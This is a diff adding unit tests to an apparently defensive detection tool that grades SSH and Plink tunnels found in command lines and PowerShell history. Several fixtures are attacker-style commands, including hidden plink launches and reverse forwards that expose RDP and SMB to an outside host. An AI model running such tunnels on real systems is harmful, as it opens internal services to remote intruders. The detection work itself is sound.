@@ -5,7 +5,7 @@
 
 namespace hozen {
 namespace modules {
-extern const ModuleSpec event_logs, ssh_clients;
+extern const ModuleSpec event_logs, powershell_history, ssh_clients;
 }  // namespace modules
 namespace {
 
@@ -226,6 +226,15 @@ INSTANTIATE_TEST_SUITE_P(
                    "ssh -D 1080 u@10.0.0.1",
                    "",
                    {"ssh_clients.tunnel low"}},
+        // HeidiSQL brings it under this name, which tells what it is.
+        TunnelCase{"C:\\P\\plink-64.exe",
+                   "plink-64.exe -ssh u@db -pw hunter2 -L 3307:127.0.0.1:3306 -N",
+                   "Plink",
+                   {"ssh_clients.tunnel low"}},
+        TunnelCase{"C:\\P\\plinking.exe",
+                   "plinking.exe -ssh u@db -pw hunter2 -L 3307:127.0.0.1:3306 -N",
+                   "Plink",
+                   {"ssh_clients.tunnel medium"}},
         TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe", "ssh -l root -p 22 10.0.0.1", "", {}},
         TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                    "ssh -L 33389:10.0.0.5:3389 bastion",
@@ -253,6 +262,37 @@ INSTANTIATE_TEST_SUITE_P(
         TunnelCase{"C:\\T\\gcc.exe", "gcc -L C:\\lib -D FOO=1:2 a.c", "", {}},
         TunnelCase{"C:\\T\\robocopy.exe", "robocopy a b -R:3 -W:5", "", {}},
         TunnelCase{"C:\\T\\curl.exe", "curl -L http://10.0.0.1:80/a:b", "", {}}));
+
+TEST_F(SshClients, TunnelsTypedIntoPowerShell) {
+  const auto typed = [&](const std::string& line) {
+    fake::FakeWindows host;
+    host.user("alice");
+    host.file(
+        "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
+        "ConsoleHost_history.txt",
+        line + "\n");
+    const ModuleRun done =
+        run_and_judge({&modules::powershell_history, &modules::ssh_clients}, host);
+    std::string found;
+    for (const Finding& finding : done.context->findings)
+      found +=
+          finding.rule + " " + std::string{to_text(severity_of(finding))} + " " + finding.subject;
+    return found;
+  };
+  EXPECT_EQ(typed("plink.exe -ssh -l root -pw abc -R 3389:127.0.0.1:3389 203.0.113.9"),
+            "ssh_clients.tunnel high plink.exe by alice");
+  EXPECT_EQ(typed("cd C:\\PerfLogs; ssh -R 3389:localhost:3389 root@203.0.113.9 -N -f"),
+            "ssh_clients.tunnel high ssh by alice");
+  EXPECT_EQ(typed("& 'C:\\a b\\plink.exe' -R 1080 203.0.113.9"),
+            "ssh_clients.tunnel medium C:\\a b\\plink.exe by alice");
+  EXPECT_EQ(typed("Start-Process .\\plink.exe -WindowStyle Hidden -ArgumentList "
+                  "'-R','445:127.0.0.1:445','203.0.113.9'"),
+            "ssh_clients.tunnel high .\\plink.exe by alice");
+  EXPECT_EQ(typed("ssh -L 5432:db:5432 u@10.0.0.1"), "ssh_clients.tunnel low ssh by alice");
+  EXPECT_EQ(typed("ssh admin@10.0.0.1"), "");
+  EXPECT_EQ(typed("Get-ChildItem -Recurse | Select-String -Pattern 'ssh -R 1:2:3'"), "");
+  EXPECT_EQ(typed("robocopy a b -R:3 -W:5"), "");
+}
 
 TEST(SshForwards, AreReadAsClientsDo) {
   using ssh::forwards_in;
